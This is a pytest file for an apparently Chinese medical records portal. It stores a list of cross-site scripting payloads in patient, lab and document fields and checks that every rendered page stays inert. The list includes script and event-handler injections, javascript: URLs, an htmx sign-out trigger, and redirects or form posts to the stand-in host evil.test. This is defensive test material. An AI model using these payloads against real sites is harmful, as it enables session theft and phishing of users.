"""Attack list 41: scripts in names, values, texts and narratives are shown as what they are."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

import pytest
from lxml import html

from tests.portal.house import House, in_house
from tests.portal.people import Told, condition, encounter, laboratory, observation, patient, prescription, status

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<body onload=alert(1)>",
    "<math><mtext></p><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}",
    "<div hx-get='/sign-out' hx-trigger='load'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<base href=http://evil.test/>",
    "<style>@import 'http://evil.test'</style>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e<!--",
    "<form action=http://evil.test><button>登录</button></form>",
)  # fmt: skip

#: Attributes by which htmx acts: our own stand in the templates and nowhere else.
_OURS: Final = {"hx-boost", "hx-target", "hx-select", "hx-swap"}


def poisoned(text: str) -> Iterator[Told]:
    """A record with `text` wherever free text may stand."""
    about, at = "px", "2026-05-01T08:00:00+08:00"
    narrative = {"status": "generated", "div": f'<div xmlns="http://www.w3.org/1999/xhtml">{text}</div>'}
    yield "F05", patient(
        "px", text, "1958-04-12", identifier=[{"system": "urn:x", "value": text, "type": {"text": text}}],
        text=narrative, telecom=[{"system": "phone", "value": text}], address=[{"text": text}], gender="female",
    )  # fmt: skip
    yield "F05", condition("x1", about, at, text, text)
    yield "F05", encounter("x2", about, at, "", text, text, status=text, type=[{"text": text}])
    yield "F05", prescription("x3", about, at, text, text)
    yield "F05", observation("x4", about, at, "1-1", text, valueString=text, note=[{"text": text}])
    yield "F05", laboratory("x5", about, at, "14771-0", text, f"7.1 {text}", "3.9", "6.1", "H")
    yield "F05", laboratory("x6", about, at, "14771-0", text, "7.1 mmol/L", "3.9", "6.1", "H")
    yield "F05", laboratory("x7", about, "2026-05-02", "14771-0", text, "7.4 mmol/L", "3.9", "6.1", text)
    subject = {"subject": {"reference": f"Patient/{about}"}}
    yield "F05", {
        "resourceType": "DiagnosticReport", "id": "x8", "status": "final", "code": {"text": text}, "conclusion": text,
        "effectiveDateTime": at, "meta": {"source": f"urn:yilian:message:{text}"}, **subject,
    }  # fmt: skip
    yield "F05", {
        "resourceType": "DocumentReference", "id": "x9", "status": "current", "description": text, "date": at,
        "content": [{"attachment": {"title": text, "url": "javascript:alert(1)"}}], "text": narrative, **subject,
    }  # fmt: skip
    yield "F05", {
        "resourceType": "AllergyIntolerance", "id": "x10", "code": {"text": text},
        "clinicalStatus": status("allergyintolerance-clinical"),
        "reaction": [{"manifestation": [{"text": text}]}], "patient": {"reference": f"Patient/{about}"},
    }  # fmt: skip


def assert_inert(page: str) -> None:
    """Nothing runs, loads, submits or navigates but what the templates hold."""
    document = html.document_fromstring(page)
    for element in document.iter(html.etree.Element):
        assert element.tag not in {"iframe", "base", "style", "object", "embed", "math", "template"}, element.tag
        for name, value in element.attrib.items():
            assert not name.startswith("on"), name
            assert not name.startswith("hx-") or name in _OURS, name
            assert name not in {"style", "srcdoc", "formaction"}, name
            if name in {"href", "src", "action"}:
                assert value.startswith(("/", "#")), value
    for script in document.iter("script"):
        assert script.get("type") == "application/json" or script.get("src", "").startswith("/static/")
        assert script.get("type") == "application/json" or not script.text
    assert {meta.get("http-equiv") for meta in document.iter("meta")} == {None}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_stored_script_is_shown_and_does_nothing(database_url: str, payload: str) -> None:
    async def visit(home: House) -> None:
        await home.save(poisoned(payload))
        await home.sign_in()
        record = await home.get("/record/px")
        pages = [
            record,
            await home.get("/record/px/sheet"),
            await home.get("/record/px?lang=en&kind=laboratory"),
            await home.submit("/find", "/find", number=payload),
            await home.submit("/find", "/find", name=payload, born="1958-04-12"),
            await home.submit("/record/px", "/record/px/emergency", reason=payload),
            await home.get("/record/px"),
        ]
        for page in pages:
            if page.status_code != 303:
                assert_inert(page.text)
        assert record.status_code == 200
        shown = html.document_fromstring(record.text).get_element_by_id("name").text_content()
        assert shown == payload.strip()

    in_house(database_url, visit)


def test_a_display_name_with_a_script_is_inert_too(database_url: str) -> None:
    async def visit(home: House) -> None:
        await home.sign_in()
        async with home.database.connection() as tx:
            await tx.execute("UPDATE account SET display = $1", PAYLOADS[1])
        for path in ("/find", "/record/nobody"):
            assert_inert((await home.get(path)).text)

    in_house(database_url, visit)
